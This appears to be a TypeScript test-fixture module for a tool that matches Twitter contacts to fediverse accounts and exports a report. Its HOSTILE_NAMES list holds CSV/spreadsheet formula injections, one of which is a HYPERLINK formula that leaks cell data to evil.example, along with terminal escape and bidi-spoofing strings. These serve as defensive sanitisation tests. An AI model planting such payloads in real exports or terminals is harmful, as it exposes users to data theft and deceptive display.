import type { Address } from '../../src/people/address.ts';
import type {
  Clue,
  Contact,
  LookupFailed,
  LookupFound,
  LookupMoved,
  Match,
  MatchedContact,
  Profile,
} from '../../src/people/types.ts';
import type { MatchRow } from '../../src/report/match-row.ts';

/** What people put into names to break what prints them. */
export const HOSTILE_NAMES = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "'=1+1",
  "''@SUM(A1)",
  '+1-800',
  '-Bob-',
  '@alice',
  '\t=tab',
  '\r=return',
  'esc \u001b[2J\u001b]0;title\u0007 \u009b31m',
  'nul \u0000 del \u007f bell \u0007',
  'right \u202eto left\u202c \u2066isolate\u2069 \u200fmark\u061c',
  'line\r\nbreaks\u2028and\u2029more\u0085',
  'zero\u200bwidth\u2060\ufeff\u00ad and \u{e0041}\u{e0042} tags',
  'lone \ud800 surrogate \udc00',
  'quote " comma , semicolon ; tab \t end',
  `zalgo a${'\u0301'.repeat(5000)}`,
  `long ${'x'.repeat(1_000_000)}`,
  `${'👩‍'.repeat(20_000)}👩`,
] as const;

/** What must not reach a terminal: controls, bidi, tags, zero-width space and kin, lone surrogates. */
export const UNSAFE =
  /(?!\n)[\p{Cc}\p{Cs}\u00ad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\u{e0000}-\u{e007f}]/u;

export function contact(given: Partial<Contact> = {}): Contact {
  return { id: '11', handle: 'alice', name: 'Alice', oldHandles: [], relations: ['following'], ...given };
}

export function clue(given: Partial<Clue> = {}): Clue {
  return {
    address: 'alice@social.example',
    kind: 'display_name',
    text: 'Alice @alice@social.example',
    tweetId: null,
    saidBy: 'contact',
    standing: 'stated',
    bare: false,
    bridged: false,
    ...given,
  };
}

export function profile(given: Partial<Profile> = {}): Profile {
  return {
    url: 'https://social.example/@alice',
    twitter: ['alice'],
    bot: false,
    memorial: false,
    suspended: false,
    ...given,
  };
}

export function lookup(given: Partial<LookupFound> = {}): LookupFound {
  return {
    address: 'alice@social.example',
    at: '2026-01-01T00:00:00.000Z',
    status: 'found',
    canonical: 'alice@social.example',
    movedFrom: null,
    software: 'mastodon',
    profile: profile(),
    why: null,
    ...given,
  };
}

export function moved(movedFrom: Address): LookupMoved {
  return { ...lookup(), status: 'moved', movedFrom };
}

export function failed(status: LookupFailed['status'], why = ''): LookupFailed {
  return { ...lookup(), canonical: null, software: null, profile: null, status, why };
}

export function match(given: Partial<Match> = {}): Match {
  return {
    address: 'alice@social.example',
    canonical: 'alice@social.example',
    confidence: 'confirmed',
    clues: [clue()],
    lookup: lookup(),
    followedByDefault: true,
    ...given,
  };
}

/** A match nobody was asked about. */
export function unasked(address: Address, given: Partial<Match> = {}): Match {
  return match({
    address,
    canonical: null,
    confidence: 'stated',
    clues: [clue({ address })],
    lookup: null,
    followedByDefault: false,
    ...given,
  });
}

export function matched(given: Partial<MatchedContact> = {}): MatchedContact {
  return { contact: contact(), matches: [match()], unchecked: [], ...given };
}

export function row(given: Partial<MatchRow> = {}): MatchRow {
  return {
    twitterId: '11',
    twitterHandle: 'alice',
    twitterName: 'Alice',
    relations: ['following'],
    address: 'alice@social.example',
    confidence: 'confirmed',
    why: 'their display name says so; profile links back',
    profileUrl: 'https://social.example/@alice',
    followedByDefault: true,
    follow: true,
    alsoKnownAs: [],
    ...given,
  };
}
